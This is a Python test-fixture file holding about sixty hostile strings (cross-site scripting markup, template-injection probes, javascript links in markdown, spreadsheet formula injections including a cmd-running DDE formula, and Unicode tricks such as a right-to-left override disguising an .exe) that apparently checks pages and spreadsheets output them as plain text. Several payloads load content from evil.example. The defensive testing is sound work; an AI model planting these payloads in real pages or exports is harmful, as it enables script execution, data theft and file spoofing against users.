"""Sixty texts that have broken pages, spreadsheets or notebooks somewhere; each must come out as the text it is."""

RTL, LRI, ZWJ, ZWSP, BOM = "\u202e", "\u2066", "\u200d", "\u200b", "\ufeff"

MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    '"><script src=https://evil.example/a.js></script>',
    "<img src=x onerror=alert(3)>",
    "<img/src=https://evil.example/p.png>",
    "<svg onload=alert(4)>",
    "<svg><script>alert(5)</script></svg>",
    "<svg><animate onbegin=alert(6) attributeName=x dur=1s>",
    "<iframe src=javascript:alert(7)></iframe>",
    "<iframe srcdoc='<script>alert(8)</script>'>",
    "<object data=https://evil.example/o></object>",
    "<embed src=https://evil.example/e>",
    "<link rel=stylesheet href=https://evil.example/c.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button autofocus>Klicka</button></form>",
    "<a href=javascript:alert(9)>länk</a>",
    "<details open ontoggle=alert(10)>",
    "<video><source onerror=alert(11)></video>",
    "<body onload=alert(12)>",
    "<style>*{display:none}</style>",
    "</style></title></head><h1>Övertagen sida</h1>",
    "<style>@import 'https://evil.example/i.css';</style>",
    "<div style=background:url(https://evil.example/b)>ruta</div>",
    "<math><mtext><script>alert(13)</script></mtext></math>",
    "<!-- --!><img src=x onerror=alert(14)>",
    "<![CDATA[<script>alert(15)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(16)>'>",
    "<textarea></textarea><img src=x onerror=alert(17)>",
    "<template><img src=x onerror=alert(18)></template>",
    "<xmp><img src=x onerror=alert(19)>",
    "<plaintext>",
    '" onmouseover="alert(20)" x="',
    "' onfocus='alert(21)' autofocus='",
    "javascript:alert(22)",
    "data:text/html,<script>alert(23)</script>",
    "&lt;script&gt;alert(24)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(25)&#62;",
    "&amp;amp; &nbsp; &copy &#x0;",
)
TEMPLATES = (
    "{{ 7*7 }} {{ config }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{# bort #} {0} {name} %(x)s %s",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{subjects} {n} {__class__}",
)
MARKDOWN = (
    "[länk](javascript:alert(26)) **fet** `kod`",
    "![bild](https://evil.example/m.png)",
    "# Rubrik | a | b |",
    "$\\href{javascript:alert(27)}{x}$ \\(\\unicode{x}\\) $$x$$",
)
FORMULAS = (
    '=HYPERLINK("https://evil.example";"Klicka")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
)
SIGNS = (
    f"abc{RTL}gnp.exe",
    f"{LRI}isolerad utan slut",
    f"osynlig{ZWSP}{BOM}{ZWJ}text",
    "שלום عربي 👩\u200d⚕️",
    "Z̷̡͔a̴̛͉l̵̹͌g̶̙̈o̷̢̾",
    "W" * 255,
    "Å" * 120 + " " + "ö" * 120,
)
# Sent through the pages and writers themselves; a CSV file cannot carry them past intake.
CONTROLS = ("noll\x00tecken", "\x1b[31mrött\x07")

PAYLOADS = (*MARKUP, *TEMPLATES, *MARKDOWN, *FORMULAS, *SIGNS)
